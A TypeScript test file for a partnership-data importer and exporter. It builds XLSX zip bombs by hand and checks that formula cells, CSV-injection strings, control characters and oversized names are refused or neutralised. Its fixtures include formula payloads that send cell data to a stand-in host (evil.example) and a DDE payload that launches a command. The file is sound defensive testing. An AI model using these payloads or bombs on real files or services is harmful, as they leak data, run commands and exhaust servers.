/**
 * Hostile files and text: XLSX zip bombs (honest and lying sizes, overlapping entries, ZIP64, too
 * many entries), formulas in XLSX cells, CSV/XLSX injection on export, control characters, mixed
 * scripts and 10,000-character names through the importer. Every refusal is a report naming the
 * problem, never a 500, and writes nothing.
 */
import { constants, crc32, deflateRawSync, inflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { queryRows } from '../db/sql.js';
import { exportPartnerships } from '../imports/export.service.js';
import { checkZip, unpackedSize, ZIP_LIMITS, zipEntries } from '../imports/zip-guard.js';
import { buildApp, buildPartnership, jsonInit } from '../testing/factories.js';
import { createTestDb } from '../testing/test-db.js';

const handle = await createTestDb();
const app = buildApp(handle);
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const MiB = 1024 * 1024;

type Report = { ok: boolean; added: number; rows: number; problems: { rule: string; row: number | null }[] };
type ImportAnswer = { status: number; report: Report };

async function counts(): Promise<string> {
  const rows = await queryRows<Record<string, number>>(
    handle.db,
    sql`select (select count(*) from partnerships) as p, (select count(*) from foreign_places) as f,
               (select count(*) from import_runs) as r`,
  );
  return JSON.stringify(rows[0]);
}

/** POST /api/imports with a file; the report from a 200 or from a 400's details. */
async function upload(data: Buffer | string, fileName: string): Promise<ImportAnswer> {
  const type = fileName.endsWith('.xlsx') ? XLSX_TYPE : fileName.endsWith('.json') ? 'application/json' : 'text/csv';
  const res = await app.request(`/api/imports?fileName=${encodeURIComponent(fileName)}`, {
    method: 'POST',
    headers: { 'content-type': type, 'accept-language': 'en' },
    body: typeof data === 'string' ? data : new Uint8Array(data),
  });
  expect(res.status, fileName).toBeLessThan(500);
  const body = (await res.json()) as Report & { error?: { details?: { report: Report } } };
  return { status: res.status, report: body.error ? (body.error.details?.report as Report) : body };
}

// ---------------------------------------------------------------------------------------------
// A small ZIP writer, enough to build XLSX files and bombs by hand.

type BombEntry = {
  name: string;
  /** The raw DEFLATE bytes (method 8) or the bytes themselves (method 0). */
  packed: Buffer;
  method?: 0 | 8;
  crc: number;
  /** The size written in the headers, true or not. */
  declared: number;
  zip64?: boolean;
};

function zip(entries: BombEntry[], { overlap = 1 } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const method = e.method ?? 8;
    const big = e.zip64 === true;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(big ? 45 : 20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(big ? 0xffffffff : e.packed.length, 18);
    local.writeUInt32LE(big ? 0xffffffff : e.declared, 22);
    local.writeUInt16LE(name.length, 26);
    const localExtra = big ? zip64Extra([e.declared, e.packed.length]) : Buffer.alloc(0);
    local.writeUInt16LE(localExtra.length, 28);
    const header = Buffer.concat([local, name, localExtra]);
    // Several directory entries may point at the same data (an overlapping bomb).
    for (let k = 0; k < overlap; k++) {
      const central = Buffer.alloc(46);
      central.writeUInt32LE(0x02014b50, 0);
      central.writeUInt16LE(big ? 45 : 20, 4);
      central.writeUInt16LE(big ? 45 : 20, 6);
      central.writeUInt16LE(method, 10);
      central.writeUInt32LE(e.crc >>> 0, 16);
      central.writeUInt32LE(big ? 0xffffffff : e.packed.length, 20);
      central.writeUInt32LE(big ? 0xffffffff : e.declared, 24);
      const entryName = Buffer.from(k === 0 ? e.name : `${e.name}.${k}`);
      central.writeUInt16LE(entryName.length, 28);
      const extra = big ? zip64Extra([e.declared, e.packed.length]) : Buffer.alloc(0);
      central.writeUInt16LE(extra.length, 30);
      central.writeUInt32LE(offset, 42);
      centrals.push(central, entryName, extra);
    }
    locals.push(header, e.packed);
    offset += header.length + e.packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  const count = entries.length * overlap;
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

function zip64Extra(values: number[]): Buffer {
  const extra = Buffer.alloc(4 + 8 * values.length);
  extra.writeUInt16LE(0x0001, 0);
  extra.writeUInt16LE(8 * values.length, 2);
  values.forEach((v, i) => {
    extra.writeBigUInt64LE(BigInt(v), 4 + 8 * i);
  });
  return extra;
}

function stored(name: string, content: string | Buffer): BombEntry {
  const bytes = Buffer.from(content);
  return { name, packed: deflateRawSync(bytes), crc: crc32(bytes), declared: bytes.length };
}

/**
 * `head` + `times` × `chunk` + `tail` as one raw DEFLATE stream, without ever holding the whole:
 * each piece is packed on its own (so it refers to nothing before it) and ends with a sync flush,
 * so the pieces can follow one another; only the tail ends the stream.
 */
function packedRepeat(
  head: string,
  chunk: Buffer,
  times: number,
  tail: string,
): { packed: Buffer; size: number; crc: number } {
  const sync = { finishFlush: constants.Z_SYNC_FLUSH, level: 9 };
  const headBytes = Buffer.from(head);
  const tailBytes = Buffer.from(tail);
  const piece = deflateRawSync(chunk, sync);
  let crc = crc32(headBytes);
  for (let i = 0; i < times; i++) crc = crc32(chunk, crc);
  crc = crc32(tailBytes, crc);
  const packed = Buffer.concat([
    deflateRawSync(headBytes, sync),
    ...Array(times).fill(piece),
    deflateRawSync(tailBytes),
  ]);
  return { packed, size: headBytes.length + times * chunk.length + tailBytes.length, crc };
}

/** The entries of a real workbook that exceljs wrote, unpacked, so that a bomb can be built from them. */
async function workbookEntries(rows: (string | number)[][]): Promise<Map<string, Buffer>> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('partnerships');
  for (const row of rows) sheet.addRow(row);
  const file = Buffer.from(await workbook.xlsx.writeBuffer());
  const out = new Map<string, Buffer>();
  for (const e of zipEntries(file) ?? []) {
    const start = e.offset + 30 + file.readUInt16LE(e.offset + 26) + file.readUInt16LE(e.offset + 28);
    const packed = file.subarray(start, start + e.packed);
    out.set(e.name, e.method === 8 ? inflateRawSync(packed) : packed);
  }
  return out;
}

const HEADER = ['cn_division_code', 'partner_name_en', 'partner_country', 'kind', 'established_on'];

/** A workbook whose first sheet is replaced by `sheet` (the other entries as exceljs wrote them). */
async function workbookWithSheet(sheet: BombEntry): Promise<Buffer> {
  const entries = await workbookEntries([HEADER]);
  return zip([...entries].map(([name, bytes]) => (name === 'xl/worksheets/sheet1.xml' ? sheet : stored(name, bytes))));
}

const SHEET_HEAD =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
  '<row r="1"><c r="A1" t="inlineStr"><is><t>cn_division_code</t></is></c></row>';
const SHEET_TAIL = '</sheetData></worksheet>';

describe('zip bombs in XLSX uploads', () => {
  it('the hand-built ZIP of a real workbook imports, so a refusal below is the guard, not the builder', async () => {
    const entries = await workbookEntries([HEADER, ['430100', 'Zip Town', 'GH', 'friendship', '2001']]);
    const file = zip([...entries].map(([name, bytes]) => stored(name, bytes)));
    expect(await checkZip(file)).toEqual({ ok: true });
    const { status, report } = await upload(file, 'rebuilt.xlsx');
    expect(status).toBe(200);
    expect(report).toMatchObject({ ok: true, added: 1 });
  });

  it('refuses a sheet that unpacks to 2 GiB, declared honestly (ZIP64) or cut to 32 bits', async () => {
    const bomb = packedRepeat(SHEET_HEAD, Buffer.alloc(MiB, 0x20), 2048, SHEET_TAIL);
    expect(bomb.packed.length).toBeLessThan(5 * MiB);
    const file = await workbookWithSheet({
      name: 'xl/worksheets/sheet1.xml',
      packed: bomb.packed,
      crc: bomb.crc,
      declared: bomb.size % 2 ** 32,
      zip64: false,
    });
    // 2 GiB + a little does not fit 32 bits: the honest form of this archive is ZIP64.
    const honest = await workbookWithSheet({
      name: 'xl/worksheets/sheet1.xml',
      packed: bomb.packed,
      crc: bomb.crc,
      declared: bomb.size,
      zip64: true,
    });
    const before = await counts();
    const { status, report } = await upload(honest, 'bomb.xlsx');
    expect(status).toBe(400);
    expect(report.ok).toBe(false);
    expect(report.problems).toEqual([expect.objectContaining({ rule: 'zip_bomb', row: null })]);
    expect(await counts()).toBe(before);
    // The same bytes with the size cut to 32 bits (a few KB declared): refused by what they unpack to.
    expect((await checkZip(file)).ok).toBe(false);
  });

  it('refuses a sheet that declares a small size and unpacks to far more (a lying header)', async () => {
    const bomb = packedRepeat(SHEET_HEAD, Buffer.alloc(MiB, 0x20), 600, SHEET_TAIL);
    const file = await workbookWithSheet({
      name: 'xl/worksheets/sheet1.xml',
      packed: bomb.packed,
      crc: bomb.crc,
      declared: 4096,
    });
    const before = await counts();
    const { status, report } = await upload(file, 'liar.xlsx');
    expect(status).toBe(400);
    expect(report.problems).toEqual([expect.objectContaining({ rule: 'zip_bomb' })]);
    expect(await counts()).toBe(before);
  });

  it('refuses by ratio an entry far smaller than the total limit', async () => {
    const bomb = packedRepeat(SHEET_HEAD, Buffer.alloc(MiB, 0x20), 50, SHEET_TAIL);
    for (const declared of [bomb.size, 4096]) {
      const file = await workbookWithSheet({ name: 'xl/worksheets/sheet1.xml', ...bomb, declared });
      const verdict = await checkZip(file);
      expect(verdict.ok, String(declared)).toBe(false);
      expect(verdict).toMatchObject({
        entry: 'xl/worksheets/sheet1.xml',
        message: expect.objectContaining({ en: expect.stringMatching(/times its size/) }),
      });
    }
  });

  it('refuses many directory entries pointing at the same data (an overlapping bomb), and too many entries', async () => {
    // Each entry alone is 1 MiB (no ratio limit that small); 600 of them are over the total.
    const piece = packedRepeat('', Buffer.alloc(MiB, 0x20), 1, '');
    const overlapping = zip([{ name: 'xl/worksheets/sheet1.xml', ...piece, declared: piece.size }], { overlap: 600 });
    expect(overlapping.length).toBeLessThan(100_000);
    expect(await checkZip(overlapping)).toMatchObject({
      ok: false,
      message: expect.objectContaining({ en: expect.stringMatching(/more than 512 MB/) }),
    });
    // Declaring 10 bytes each does not help: what they unpack to counts (a lower limit keeps the test quick).
    const lying = zip([{ name: 'xl/worksheets/sheet1.xml', ...piece, declared: 10 }], { overlap: 100 });
    expect(await checkZip(lying, { ...ZIP_LIMITS, maxUnpacked: 64 * MiB })).toMatchObject({
      ok: false,
      message: expect.objectContaining({ en: expect.stringMatching(/more than 64 MB/) }),
    });
    expect(await checkZip(lying)).toEqual({ ok: true });
    const many = zip(Array.from({ length: ZIP_LIMITS.maxEntries + 1 }, (_, i) => stored(`f${i}.xml`, '<a/>')));
    expect(await checkZip(many)).toMatchObject({
      ok: false,
      message: expect.objectContaining({ en: expect.stringMatching(/holds 1,001 files/) }),
    });
    for (const [file, name] of [
      [overlapping, 'overlap.xlsx'],
      [many, 'many.xlsx'],
    ] as const) {
      const { status, report } = await upload(file, name);
      expect(status, name).toBe(400);
      expect(report.problems, name).toEqual([expect.objectContaining({ rule: 'zip_bomb' })]);
    }
  });

  it('stops unpacking as soon as the limit is passed', async () => {
    const bomb = packedRepeat('', Buffer.alloc(MiB), 128, '');
    const size = await unpackedSize(bomb.packed, 8 * MiB);
    expect(size).toBeGreaterThan(8 * MiB);
    expect(size).toBeLessThan(16 * MiB);
    expect(await unpackedSize(bomb.packed, 1024 * MiB)).toBe(128 * MiB);
  });

  it('leaves what is not a ZIP archive at all to the XLSX reader, which refuses it', async () => {
    for (const junk of [Buffer.alloc(0), Buffer.from('PK\u0003\u0004 not really'), Buffer.from('a,b\n1,2\n')]) {
      expect(await checkZip(junk)).toEqual({ ok: true });
      const { status, report } = await upload(junk, 'junk.xlsx');
      expect(status).toBe(400);
      expect(report.problems.map((p) => p.rule)).toEqual(['invalid_xlsx']);
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe('formulas in XLSX cells', () => {
  it('are never evaluated: a cell holding a formula is refused, naming the cell, and nothing is written', async () => {
    const formulas: ExcelJS.CellValue[] = [
      { formula: 'HYPERLINK("http://evil.example/?leak="&A2,"click")', result: 'click' },
      { formula: "cmd|' /C calc'!A0", result: 0 },
      { formula: 'WEBSERVICE("http://evil.example")', result: '' },
      { formula: '1+1', result: 2 },
    ] as ExcelJS.CellValue[];
    for (const formula of formulas) {
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('pairs');
      sheet.addRow([...HEADER, 'notes']);
      sheet.addRow(['430100', 'Formula Ville', 'GH', 'friendship', '2001', formula]);
      const before = await counts();
      const { status, report } = await upload(Buffer.from(await workbook.xlsx.writeBuffer()), 'formula.xlsx');
      expect(status).toBe(400);
      expect(report.problems).toEqual([expect.objectContaining({ rule: 'formula', row: 2 })]);
      expect(await counts()).toBe(before);
    }
  });

  it('takes text that only looks like a formula as text, and exports it as a text cell, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('pairs');
    sheet.addRow([...HEADER, 'notes']);
    const payload = '=HYPERLINK("http://evil.example","x")';
    sheet.addRow(['430100', 'Looks Like Formula', 'GH', 'friendship', '2001', payload]);
    const { status } = await upload(Buffer.from(await workbook.xlsx.writeBuffer()), 'text.xlsx');
    expect(status).toBe(200);
    const rows = await queryRows<{ notes: string }>(
      handle.db,
      sql`select p.notes from partnerships p join foreign_places f on f.id = p.foreign_place_id
          where f.name_en = 'Looks Like Formula'`,
    );
    expect(rows).toEqual([{ notes: payload }]);

    const exported = (await exportPartnerships({
      db: handle.db,
      filter: { q: 'Looks Like Formula' },
      format: 'xlsx',
    })) as Buffer;
    const sheetXml = unpackEntry(exported, 'xl/worksheets/sheet1.xml');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(exported as unknown as ExcelJS.Buffer);
    const values = ((read.worksheets[0]?.getRow(2).values ?? []) as ExcelJS.CellValue[]).filter((v) => v !== undefined);
    expect(values).toContain(payload);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });
});

function unpackEntry(file: Buffer, name: string): string {
  const e = zipEntries(file)?.find((x) => x.name === name);
  if (!e) throw new Error(`no ${name}`);
  // The exceljs stream writer puts sizes in a data descriptor; the directory has the real ones.
  const start = e.offset + 30 + file.readUInt16LE(e.offset + 26) + file.readUInt16LE(e.offset + 28);
  const packed = file.subarray(start, start + e.packed);
  return (e.method === 8 ? inflateRawSync(packed) : packed).toString('utf8');
}

// ---------------------------------------------------------------------------------------------

describe('CSV injection on export', () => {
  const FORMULA_START = /^[=+\-@\t\r]/;
  const payload = fc.oneof(
    fc.constantFrom(
      '=HYPERLINK("http://evil.example?x="&A1,"Click")',
      "=cmd|' /C calc'!A0",
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      "'=already quoted",
      '=1+1',
    ),
    fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'=", "'+"), fc.string({ maxLength: 30 }))
      .map(([a, b]) => a + b),
  );

  it('puts an apostrophe before every cell a spreadsheet would run, in every column that holds free text', async () => {
    const p = await buildPartnership(handle, { partner: { countryIso2: 'GH', nameEn: 'Injection Town' } });
    let version = p.version;
    await fc.assert(
      fc.asyncProperty(payload, payload, async (notes, endedReason) => {
        const res = await app.request(
          `/api/partnerships/${p.id}`,
          jsonInit('PATCH', { version, notes, status: 'ended', endedOn: '2020-01-01', endedReason }),
        );
        if (res.status !== 200) {
          // Refused (e.g. only spaces after trimming): that is not an export matter.
          expect(res.status).toBe(400);
          return;
        }
        version = ((await res.json()) as { version: number }).version;
        const text = String(
          await exportPartnerships({ db: handle.db, filter: { q: 'Injection Town' }, format: 'csv' }),
        );
        const records = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
        expect(records.length).toBe(2);
        for (const cell of records[1] as string[]) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
        const stored = (await (await app.request(`/api/partnerships/${p.id}`)).json()) as {
          notes: string;
          endedReason: string;
        };
        const header = records[0] as string[];
        const cell = (name: string) => (records[1] as string[])[header.indexOf(name)] as string;
        for (const [column, value] of [
          ['notes', stored.notes],
          ['ended_reason', stored.endedReason],
        ] as const) {
          // Guarded exactly when it would run (or already starts with the guard), and only then.
          const guarded = FORMULA_START.test(value) || /^'[=+\-@\t\r]/.test(value);
          expect(cell(column), column).toBe(guarded ? `'${value}` : value);
        }
      }),
      { numRuns: 40 },
    );
  });
});

// ---------------------------------------------------------------------------------------------

describe('odd text through the importer', () => {
  const csv = (rows: string[][]) =>
    [['cn_division_code', 'partner_name_en', 'partner_country', 'notes'], ...rows]
      .map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(','))
      .join('\r\n');

  it('keeps mixed scripts, emoji and right-to-left text exactly, in CSV and XLSX', async () => {
    const names = ['長沙 Лондон لندن 東京 🤝', 'Zoë Ñandú İstanbul', 'שָׁלוֹם Town', 'Ǆemal ﬁne ㎞'];
    const { status, report } = await upload(csv(names.map((n) => ['430100', n, 'GH', `note ${n}`])), 'scripts.csv');
    expect(status).toBe(200);
    expect(report.added).toBe(names.length);
    const stored = await queryRows<{ name_en: string }>(
      handle.db,
      sql`select name_en from foreign_places where name_en in (${sql.join(
        names.map((n) => sql`${n}`),
        sql`, `,
      )}) order by name_en`,
    );
    expect(stored.map((r) => r.name_en).sort()).toEqual([...names].sort());
    // The same rows as XLSX: unchanged.
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('pairs');
    sheet.addRow(['cn_division_code', 'partner_name_en', 'partner_country', 'notes']);
    for (const n of names) sheet.addRow(['430100', n, 'GH', `note ${n}`]);
    const again = await upload(Buffer.from(await workbook.xlsx.writeBuffer()), 'scripts.xlsx');
    expect(again.status).toBe(200);
    expect(again.report).toMatchObject({ ok: true, added: 0 });
  });

  it('refuses a 10,000-character name, naming the row, and writes nothing', async () => {
    for (const name of ['x'.repeat(10_000), '名'.repeat(10_000), `${'🤝'.repeat(5_000)}`]) {
      const before = await counts();
      const { status, report } = await upload(
        csv([
          ['430100', 'Fine Town Before', 'GH', ''],
          ['430100', name, 'GH', ''],
        ]),
        'long.csv',
      );
      expect(status).toBe(400);
      expect(report.problems.map((p) => p.row)).toEqual([3]);
      expect(await counts()).toBe(before);
    }
  });

  it('refuses a NUL (PostgreSQL text cannot hold one) by row and column; keeps other control characters as given', async () => {
    const before = await counts();
    const nul = await upload(csv([['430100', 'Nul\u0000Town', 'GH', 'fine']]), 'nul.csv');
    expect(nul.status).toBe(400);
    expect(nul.report.problems).toEqual([
      expect.objectContaining({ rule: 'control_character', row: 2, column: 'partner_name_en' }),
    ]);
    const json = await upload(
      JSON.stringify([
        { cn_division_code: '430100', partner_name_en: 'Json Town', partner_country: 'GH', notes: 'a\u0000b' },
      ]),
      'nul.json',
    );
    expect(json.status).toBe(400);
    expect(json.report.problems).toEqual([expect.objectContaining({ rule: 'control_character', column: 'notes' })]);
    expect(await counts()).toBe(before);

    const kept = ['Bell\u0007Town', 'Esc\u001b[31mTown', 'Del\u007fTown', 'Tab\tTown', 'Line\nTown', 'Bidi\u202eTown'];
    const { status, report } = await upload(csv(kept.map((n) => ['430100', n, 'GH', `n ${n}`])), 'control.csv');
    expect(status).toBe(200);
    expect(report.added).toBe(kept.length);
    const rows = await queryRows<{ name_en: string; notes: string }>(
      handle.db,
      sql`select f.name_en, p.notes from partnerships p join foreign_places f on f.id = p.foreign_place_id
          where f.name_en in (${sql.join(
            kept.map((n) => sql`${n}`),
            sql`, `,
          )})`,
    );
    expect(rows.map((r) => r.name_en).sort()).toEqual([...kept].sort());
    expect(rows.every((r) => r.notes === `n ${r.name_en}`)).toBe(true);
  });

  it('answers a NUL in any JSON field of the API with 400, never 500, and writes nothing', async () => {
    const before = await counts();
    for (const body of [
      { cnCode: '430100', kind: 'friendship', status: 'active', partner: { countryIso2: 'GH', nameEn: 'a\u0000b' } },
      {
        cnCode: '430100',
        kind: 'friendship',
        status: 'active',
        partner: { countryIso2: 'GH', nameEn: 'ok' },
        notes: '\u0000',
      },
    ]) {
      const res = await app.request('/api/partnerships', jsonInit('POST', body));
      expect(res.status).toBe(400);
      const error = (await res.json()) as { error: { code: string; issues: { rule: string }[] } };
      expect(error.error.code).toBe('validation_failed');
    }
    expect(await counts()).toBe(before);
  });

  it('answers half of a surrogate pair in a JSON text with 400, never 500, and writes nothing', async () => {
    const pair = await buildPartnership(handle, { partner: { countryIso2: 'GH', nameEn: 'Surrogate Test' } });
    const before = await counts();
    const partner = { countryIso2: 'GH', nameEn: 'ok' };
    const refused = [
      app.request(
        '/api/partnerships',
        jsonInit('POST', { cnCode: '430100', kind: 'friendship', partner: { ...partner, nameEn: 'a\ud800b' } }),
      ),
      app.request(
        '/api/partnerships',
        jsonInit('POST', { cnCode: '430100', kind: 'friendship', partner, notes: '\udc00' }),
      ),
      app.request(`/api/places/${pair.partner.id}`, jsonInit('PATCH', { nameZh: '\ud800' })),
    ];
    for (const res of await Promise.all(refused)) {
      expect(res.status).toBe(400);
      const error = (await res.json()) as { error: { code: string; issues: { rule: string }[] } };
      expect(error.error.issues.map((i) => i.rule)).toEqual(['ill_formed_text']);
    }
    expect(await counts()).toBe(before);
    const place = (await (await app.request(`/api/places/${pair.partner.id}`)).json()) as { nameZh: string | null };
    expect(place.nameZh).toBeNull();
    // A whole pair is a character like any other, kept as sent.
    const emoji = await app.request(
      `/api/places/${pair.partner.id}`,
      jsonInit('PATCH', { nameZh: 'Ghana \ud83c\udf0d' }),
    );
    expect(emoji.status).toBe(200);
    expect(((await emoji.json()) as { nameZh: string }).nameZh).toBe('Ghana 🌍');
  });
});
